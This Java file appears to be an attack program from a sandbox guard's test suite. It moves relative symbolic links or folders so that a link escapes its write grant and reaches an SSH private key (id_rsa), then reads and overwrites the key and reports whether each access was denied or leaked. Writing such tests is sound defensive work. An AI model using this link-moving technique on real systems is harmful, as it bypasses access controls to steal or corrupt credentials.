package dev.agentguard.apps.attacks;

import java.io.FileInputStream;
import java.io.FileOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.nio.ByteBuffer;
import java.nio.channels.SeekableByteChannel;
import java.nio.charset.StandardCharsets;
import java.nio.file.DirectoryStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.SecureDirectoryStream;
import java.nio.file.StandardOpenOption;
import java.util.Set;

/**
 * Relative links that change what they reach when moved (issue 13, items 5 and 7). The test made
 * {@code out/a/b}; the secret is two folders above {@code out}.
 *
 * <ul>
 *   <li>{@code move-link}: creates, deep in the write grant, the relative link {@code out/a/b/l ->
 *       ../../.ssh/id_rsa} (it reaches {@code out/.ssh/id_rsa}, inside the grants), moves it to
 *       {@code out/l}, where the same text climbs to the secret, and reads and writes through it.</li>
 *   <li>{@code stream}: opens a {@code SecureDirectoryStream} on {@code out/a/b}, which holds the link
 *       {@code l -> ../../../.ssh/id_rsa} (planted by the test, as in a cloned repository; it reaches
 *       {@code work/.ssh/id_rsa} from there), moves the folder to {@code out/b}, and opens
 *       {@code l} through the stream to read and to write: the kernel resolves it from the new place.</li>
 * </ul>
 *
 * <p>Usage: {@code MovedLinkAttack <out dir> move-link|stream}. Prints {@code STEP <what> ok|denied|error}
 * for the set-up and {@code ACCESS <kind> denied|LEAKED <content>|WROTE|error <text>} per access.
 */
public final class MovedLinkAttack {
    public static void main(String[] args) throws Exception {
        Path out = Path.of(args[0]);
        if (args[1].equals("move-link")) {
            Path deep = out.resolve("a/b/l");
            step("create-link", () -> Files.createSymbolicLink(deep, Path.of("../../.ssh/id_rsa")));
            step("move-link", () -> Files.move(deep, out.resolve("l")));
            Path moved = out.resolve("l");
            access("read-io", () -> {
                try (InputStream in = new FileInputStream(moved.toString())) {
                    return new String(in.readAllBytes(), StandardCharsets.UTF_8);
                }
            });
            access("read-nio", () -> Files.readString(moved));
            access("write-io", () -> {
                try (OutputStream o = new FileOutputStream(moved.toString(), true)) {
                    o.write("overwritten".getBytes(StandardCharsets.UTF_8));
                }
                return null;
            });
            access("write-nio", () -> {
                Files.writeString(moved, "overwritten", StandardOpenOption.APPEND);
                return null;
            });
        } else {
            Path folder = out.resolve("a/b");
            try (DirectoryStream<Path> stream = Files.newDirectoryStream(folder)) {
                SecureDirectoryStream<Path> secure = (SecureDirectoryStream<Path>) stream;
                step("move-folder", () -> Files.move(folder, out.resolve("b")));
                access("stream-read", () -> {
                    try (SeekableByteChannel c = secure.newByteChannel(Path.of("l"), Set.of(StandardOpenOption.READ))) {
                        ByteBuffer buffer = ByteBuffer.allocate(256);
                        c.read(buffer);
                        return new String(buffer.array(), 0, buffer.position(), StandardCharsets.UTF_8);
                    }
                });
                access("stream-write", () -> {
                    try (SeekableByteChannel c = secure.newByteChannel(Path.of("l"),
                            Set.of(StandardOpenOption.WRITE, StandardOpenOption.APPEND))) {
                        c.write(ByteBuffer.wrap("overwritten".getBytes(StandardCharsets.UTF_8)));
                    }
                    return null;
                });
            }
        }
    }

    interface Action {
        Object run() throws IOException;
    }

    private static void step(String what, Action action) {
        try {
            action.run();
            System.out.println("STEP " + what + " ok");
        } catch (SecurityException e) {
            System.out.println("STEP " + what + " denied " + e.getMessage());
        } catch (IOException | RuntimeException e) {
            System.out.println("STEP " + what + " error " + e);
        }
    }

    private static void access(String kind, Action action) {
        try {
            Object read = action.run();
            System.out.println("ACCESS " + kind + (read == null ? " WROTE" : " LEAKED " + read));
        } catch (SecurityException e) {
            System.out.println("ACCESS " + kind + " denied");
        } catch (IOException | RuntimeException e) {
            System.out.println("ACCESS " + kind + " error " + e);
        }
    }
}
